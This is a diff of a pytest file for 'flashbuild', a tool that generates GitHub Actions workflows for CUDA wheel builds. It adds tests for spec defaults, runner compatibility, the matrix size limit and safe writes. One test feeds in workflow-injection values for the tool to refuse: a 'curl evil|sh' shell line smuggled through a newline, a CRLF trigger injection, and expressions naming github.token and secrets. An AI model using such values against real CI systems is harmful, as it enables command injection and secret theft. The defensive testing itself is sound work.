@@ -13,9 +13,10 @@ import pytest
 from typer.testing import CliRunner
 
 from flashbuild.ci import workflow
-from flashbuild.ci.command import run_ci_init
+from flashbuild.ci.command import default_flashbuild_spec, run_ci_init
 from flashbuild.cli import app
 from flashbuild.errors import RecipeError, UsageError
+from flashbuild.runner import Completed
 from tests.conftest import FIXTURES
 
 SETUP = """from setuptools import setup
@@ -42,11 +43,17 @@ def _tree(tmp_path: Path, recipe: str = RECIPE) -> Path:
     return tree
 
 
+#: Where the jobs get flashbuild (the default needs a git checkout of flashbuild with a remote).
+SPEC = ["--flashbuild-spec", "flashbuild @ git+https://example.invalid/fb@" + "0" * 40]
+
+
 def _init(tree: Path, **options: object) -> Path:
     args: dict[str, object] = {
         "recipe": str(tree / "tiny.toml"), "arch": "90a;120", "platform": "linux,windows",
         "cuda": "12.9,13.0", "python": "3.11,3.12,3.13", "runners": [], "source": tree,
-        "output": None, "force": False, "flashbuild_spec": None, "torch": None,
+        "output": None, "force": False,
+        "flashbuild_spec": SPEC[1],
+        "torch": None,
         "as_json": False}
     args.update(options)
     run_ci_init(**args)  # type: ignore[arg-type]
@@ -91,7 +98,7 @@ def test_matrix_covers_every_coordinate_with_its_toolkit_and_torch(tmp_path: Pat
     assert env_value(text, "FLASHBUILD_RECIPE") == "tiny.toml"  # inside the tree
     assert env_value(text, "FLASHBUILD_PACKAGE") == "tiny"
     assert env_value(text, "TORCH_SPEC") == "torch"
-    assert "cache-dependency-path: \".github/workflows/flashbuild.yml\"" in text
+    assert "hashFiles('.github/workflows/flashbuild.yml')" in text
     assert "--cuda 12.9,13.0 --python 3.11,3.12,3.13" in text.splitlines()[6]
     assert "# >>>" not in text and "# <<<" not in text
 
@@ -210,7 +217,7 @@ def test_a_cmake_tree_installs_no_torch(tmp_path: Path) -> None:
     (tree / "r.toml").write_text(
         '[recipe]\nname = "cm"\n[[artifact]]\nname = "_x"\nkind = "module"\ntarget = "_x"\n'
         '[install]\npackage = "pkg"\npackage_dir = "pkg"\n', encoding="utf-8")
-    text = _init(tree, recipe=str(tree / "r.toml"), arch="90", cuda="12.4,13.0").read_text(
+    text = _init(tree, recipe=str(tree / "r.toml"), arch="90", cuda="12.8,13.0").read_text(
         encoding="utf-8")
     assert env_value(text, "TORCH_SPEC") == ""
     assert {e["torch-index"] for e in matrix(text)} == {""}
@@ -220,7 +227,7 @@ def test_the_cli_prints_one_paragraph_and_writes_nothing(tmp_path: Path) -> None
     tree = _tree(tmp_path)
     result = CliRunner().invoke(app, [
         "ci", "init", "--recipe", str(tree / "tiny.toml"), "--source", str(tree),
-        "--arch", "sm_103", "--cuda", "12.8", "--json"])
+        "--arch", "sm_103", "--cuda", "12.8", "--json", *SPEC])
     assert result.exit_code == 2
     assert "Traceback" not in result.output
     doc = json.loads(result.stdout)
@@ -234,12 +241,12 @@ def test_the_cli_writes_the_workflow(tmp_path: Path) -> None:
     result = CliRunner().invoke(app, [
         "ci", "init", "--recipe", str(tree / "tiny.toml"), "--source", str(tree),
         "--arch", "120", "--platform", "windows", "--cuda", "13.0", "--python", "3.12",
-        "-o", str(out), "--json"])
+        "-o", str(out), "--json", *SPEC])
     assert result.exit_code == 0, result.output
     doc = json.loads(result.stdout)
     assert doc["artifacts"] == ["wheel-windows-cuda13.0-py3.12-sm120"]
     # Written outside the tree: the cache key names where it will live in the tree.
-    assert 'cache-dependency-path: ".github/workflows/review.yml"' in out.read_text(
+    assert "hashFiles('.github/workflows/review.yml')" in out.read_text(
         encoding="utf-8")
 
 
@@ -270,3 +277,138 @@ def test_the_matrix_is_printed_as_a_table_at_80_columns(
                        "3.11"]
     assert rows[-1] == ["windows-2022", "sm_90a sm_120", "13.0 pypi", "==2.9.1 cu130", "3.13"]
     assert len(rows) == 1 + 12  # one row per job
+
+
+# --- issue 31 (workflows that run on first contact) and issue 27 (hostile input) -------------
+
+class _Git:
+    """Stands in for ProcessRunner: answers `git config remote.origin.url` and `git
+    rev-parse`."""
+
+    def __init__(self, url: str, top: Path, commit: str = "a" * 40) -> None:
+        self.url, self.top, self.commit = url, top, commit
+
+    def run(self, argv: list[str], **_: object) -> Completed:
+        out = self.url if "remote.origin.url" in argv else f"{self.top}\n{self.commit}"
+        return Completed(argv=tuple(argv), returncode=0 if out else 128, stdout=out + "\n",
+                         stderr="")
+
+
+def test_the_default_flashbuild_is_this_source_pinned_to_its_commit(tmp_path: Path) -> None:
+    # flashbuild==0.1.0 is not on PyPI: the default is the git checkout ci init ran from.
+    spec = default_flashbuild_spec(
+        tmp_path, _Git("git@github.com:me/flashbuild.git", tmp_path))  # type: ignore[arg-type]
+    assert spec == f"flashbuild @ git+https://github.com/me/flashbuild.git@{'a' * 40}"
+
+
+@pytest.mark.parametrize("url,top", [("", "."), ("https://h/fb.git", "elsewhere")])
+def test_without_a_checkout_of_its_own_the_default_is_refused(
+        tmp_path: Path, url: str, top: str) -> None:
+    # No remote, or a repository that merely holds the venv flashbuild is installed into.
+    git = _Git(url, tmp_path if top == "." else tmp_path / top)
+    with pytest.raises(UsageError, match="--flashbuild-spec"):
+        default_flashbuild_spec(tmp_path, git)  # type: ignore[arg-type]
+
+
+def test_the_default_never_names_a_version_an_index_lacks(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("flashbuild.ci.command.default_flashbuild_spec",
+                        lambda _source: f"flashbuild @ git+https://h/fb@{'b' * 40}")
+    text = _init(_tree(tmp_path), flashbuild_spec=None).read_text(encoding="utf-8")
+    assert env_value(text, "FLASHBUILD_SPEC") == f"flashbuild @ git+https://h/fb@{'b' * 40}"
+    assert "flashbuild==" not in text
+
+
+@pytest.mark.parametrize("platform,runner,words", [
+    ("windows", "windows-2022", "MSVC toolset is 14.44"),
+    ("linux", "ubuntu-24.04", "starts at CUDA 12.5"),
+])
+def test_a_cuda_the_runner_cannot_install_or_build_with_is_refused(
+        tmp_path: Path, platform: str, runner: str, words: str) -> None:
+    tree = _tree(tmp_path, RECIPE.replace("setuptools", "cmake"))
+    (tree / "CMakeLists.txt").write_text("project(t LANGUAGES CUDA)\n", encoding="utf-8")
+    with pytest.raises(UsageError, match=words):
+        _init(tree, arch="90", cuda="12.4", platform=platform)
+    assert not (tree / ".github").exists()
+
+
+@pytest.mark.parametrize("option,value", [
+    ("torch", "2.9.1\ndefaults:\n  run:\n    shell: curl evil|sh #"),
+    ("flashbuild_spec", "flashbuild\r\non: push"),
+    ("torch", "${{ github.token }}"),
+    ("flashbuild_spec", "flashbuild @ git+https://h/${{ secrets.X }}"),
+])
+def test_no_value_carries_a_newline_or_an_expression(tmp_path: Path, option: str,
+                                                      value: str) -> None:
+    tree = _tree(tmp_path)
+    with pytest.raises(UsageError, match="does not write into a workflow"):
+        _init(tree, **{option: value})
+    assert not (tree / ".github").exists()
+
+
+def test_a_recipe_path_with_a_newline_is_refused(tmp_path: Path) -> None:
+    tree = _tree(tmp_path)
+    odd = tree / "x\ndefaults:.toml"
+    shutil.copy(tree / "tiny.toml", odd)
+    with pytest.raises(UsageError, match="recipe path"):
+        _init(tree, recipe=str(odd))
+
+
+def test_a_python_torch_has_no_wheels_for_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match="no torch wheels"):
+        _init(_tree(tmp_path), python="3.12,3.99")
+
+
+def test_a_matrix_over_githubs_256_jobs_is_refused_with_how_to_split(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # 2 platforms x 45 CUDA x 4 Python = 360 jobs (the issue's case); the CUDA list is widened
+    # so the size is the only thing wrong.
+    many = [f"13.{m}" for m in range(45)]
+    monkeypatch.setattr(workflow, "PYPI_CUDA", tuple(many))
+    monkeypatch.setattr("flashbuild.ci.workflow.HOST_COMPILERS", {
+        (13, m): workflow.HOST_COMPILERS[(13, 0)] for m in range(45)})
+    tree = _tree(tmp_path)
+    with pytest.raises(UsageError, match=r"360 jobs.*") as info:
+        _init(tree, arch="90", cuda=",".join(many), python="3.11,3.12,3.13,3.14")
+    assert "256" in str(info.value.evidence) and "split" in str(info.value.fix)
+    assert not (tree / ".github").exists()
+
+
+def test_a_package_that_is_not_an_import_name_is_refused(tmp_path: Path) -> None:
+    tree = _tree(tmp_path, RECIPE.replace('package = "tiny"', 'package = "tiny-kernels"'))
+    with pytest.raises(RecipeError, match="not an import name"):
+        _init(tree)
+
+
+def test_a_failed_write_leaves_no_temporary_file(tmp_path: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    tree = _tree(tmp_path)
+
+    def refuse(self: Path, target: object) -> Path:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(Path, "replace", refuse)
+    with pytest.raises(UsageError, match="cannot write"):
+        _init(tree)
+    assert list((tree / ".github" / "workflows").iterdir()) == []
+
+
+def test_pip_caches_are_per_leg_and_actions_are_pinned(tmp_path: Path) -> None:
+    text = _init(_tree(tmp_path)).read_text(encoding="utf-8")
+    key = re.search(r"^ +key: (.*)$", text, re.MULTILINE)
+    assert key
+    for part in ("runner.os", "matrix.python", "matrix.cuda", "matrix.torch-index",
+                 "github.run_id"):
+        assert part in key[1], part
+    assert "sccache-action@v0.0.10" in text and 'version: "v0.10.0"' in text
+    # torch (which pins cuda-toolkit on Linux) comes before the toolkit, and its pin wins.
+    assert text.index("Install flashbuild and torch") < text.index("(PyPI wheels)")
+    assert "${pin:-" in text
+
+
+def test_cuda_126_still_builds_on_the_windows_runner(tmp_path: Path) -> None:
+    # 12.6's host_config.h takes _MSC_VER up to 1949: the MSVC check must not refuse it.
+    tree = _tree(tmp_path, RECIPE.replace("setuptools", "cmake"))
+    (tree / "CMakeLists.txt").write_text("project(t LANGUAGES CUDA)\n", encoding="utf-8")
+    text = _init(tree, arch="90", cuda="12.6", platform="windows").read_text(encoding="utf-8")
+    assert [e["cuda"] for e in matrix(text)] == ["12.6"] * 3
